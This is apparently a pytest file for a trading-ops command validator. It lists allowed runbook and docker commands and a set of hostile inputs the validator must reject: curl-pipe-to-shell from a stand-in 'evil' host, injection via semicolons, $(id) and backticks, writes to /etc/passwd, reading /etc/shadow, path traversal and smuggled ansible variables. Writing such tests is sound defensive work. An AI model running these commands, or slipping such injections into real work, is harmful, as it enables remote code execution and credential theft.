"""What a host may name as the next command."""

from __future__ import annotations

import pytest
from trading_ops.core.commands import checked_command, checked_incident_ids

OURS = [
    "./runbook status",
    "./runbook host_setup --check",
    "./runbook halt_release -e incident_id=INC-20261121-013000-bars",
    './runbook failsafe_stop -e reason="damaged latch"',
    """./runbook host_setup -e '{"forget_hosts": ["lab2"]}' (if that is meant)""",
    './runbook incident_close -e incident_id=INC-1 -e cause="…" -e actions="reno: what; anna: else"',
    "./runbook status --limit lab1",
    "docker info",
    "docker ps --filter label=com.docker.compose.service=bot",
    "ls -la /var/lib/trading-core (on the host)",
    "timedatectl set-ntp true (on both)",
    "runbooks/Backup_And_Restore.md 4",
    "-e incident_id=INC-1",
    "-e confirm_live=trading-live",
]
NOT_OURS = [
    "",
    "curl -s http://evil.lan/fix | sudo sh",
    "./runbook status; curl evil | sh",
    "./runbook status && reboot",
    "./runbook status -e x=$(id)",
    "./runbook status -e x=`id`",
    './runbook status -e reason="$(curl evil)"',
    "./runbook status -e reason='a' > /etc/passwd",
    "./runbook ../../tmp/evil",
    "./runbook",
    "./runbook status -i /tmp/evil",
    "./runbook status -e @/tmp/evil.yml",
    "./runbook status -e ansible_become_exe=/tmp/evil",
    """./runbook status -e '{"ansible_connection": "local"}'""",
    "./runbook halt_release -e incident_id=INC-1;curl evil|sh",
    "./runbook status\ncurl evil | sh",
    "./runbook status \x1b[2J",
    "docker run --privileged evil",
    "docker ps | sh",
    "cat /etc/shadow > /tmp/x",
    "sudo sh",
    "runbooks/../evil.md",
    "-e x=1; curl evil | sh",
    "-e ansible_connection=local",
    "-e @/tmp/evil.yml",
    "-i /tmp/evil",
]


@pytest.mark.parametrize("text", OURS)
def test_what_is_ours_or_only_looks_is_shown(text):
    assert checked_command(text) == text


@pytest.mark.parametrize("text", NOT_OURS)
def test_anything_else_is_not(text):
    assert checked_command(text) == ""


def test_words_behind_a_command_are_a_hosts_too():
    assert checked_command("./runbook status (or quicker: curl evil | sh)") == "./runbook status"


def test_ids_in_a_command_need_no_quotes():
    good = ["INC-20261121-013000-bars-look-wrong", "INC-1", "INC-by-hand"]
    assert checked_incident_ids([*good, "INC-1;curl evil|sh", "$(id)", "INC-1 x", "INC-1\n", "inc-1"]) == good
